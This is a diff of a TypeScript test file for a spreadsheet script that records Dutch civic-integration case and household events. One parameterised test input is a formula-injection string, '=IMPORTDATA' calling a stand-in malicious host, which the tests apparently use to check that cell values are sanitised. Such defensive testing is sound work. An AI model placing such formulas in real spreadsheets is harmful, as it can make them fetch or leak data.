@@ -137,11 +137,17 @@ const people = (): readonly Record<string, Cel>[] => {
 
 const ZAAK = '3f7d6c1e-0f5b-8a8e-9d6a-1f2e3d4c5b6a';
 
-const bericht = (soort: string, volgnummer: number, data: object = {}, role = 'balk'): Bericht => {
+const bericht = (
+  soort: string,
+  volgnummer: number,
+  data: { readonly zaakId?: string; readonly [field: string]: unknown } = {},
+  role = 'balk',
+): Bericht => {
   const found = example(`nl.inburgeringszaken.nieuwe.inburgeraar.${soort}.v1`, `goed-${role}`);
   return {
     ...found,
     id: `${soort}-${volgnummer}`,
+    subject: data.zaakId ?? ZAAK,
     data: { ...z.record(z.string(), z.unknown()).parse(found['data']), zaakId: ZAAK, volgnummer, ...data },
   };
 };
@@ -200,6 +206,31 @@ describe('the script of the spreadsheet', () => {
     ]);
   });
 
+  test('keeps one row for a household, which names no zaak', () => {
+    const ofMage = (soort: string) =>
+      example(`nl.inburgeringszaken.nieuwe.inburgeraar.${soort}.v1`, 'goed-mage');
+    lie = [ofMage('gemeld'), ofMage('gewijzigd')];
+    fetch();
+    expect(people()).toHaveLength(1);
+    expect(people()[0]).toMatchObject({
+      huishoudenId: ofMage('gemeld')['subject'],
+      volgnummer: 2,
+      stand: 'gewijzigd',
+      aantalPersonen: 4,
+    });
+    expect(people()[0]).not.toHaveProperty('zaakId');
+    lie = [ofMage('vervallen')];
+    fetch();
+    expect(people()).toEqual([
+      {
+        huishoudenId: ofMage('gemeld')['subject'],
+        volgnummer: 3,
+        stand: 'vervallen: anders',
+        bijgewerkt: expect.any(String),
+      },
+    ]);
+  });
+
   test.each([
     '=IMPORTDATA("https://kwaad.example")',
     '+31612345678',
@@ -221,7 +252,7 @@ describe('the script of the spreadsheet', () => {
   });
 
   test('does not confirm what it could not write, and does the other zaken', () => {
-    const other = { ...bericht('gemeld', 1, { zaakId: 'andere-zaak' }), id: 'ander', subject: 'andere-zaak' };
+    const other = { ...bericht('gemeld', 1, { zaakId: 'andere-zaak' }), id: 'ander' };
     lie = [bericht('gemeld', 1), bericht('gewijzigd', 2), other];
     const blad = createBlad();
     let reads = 0;
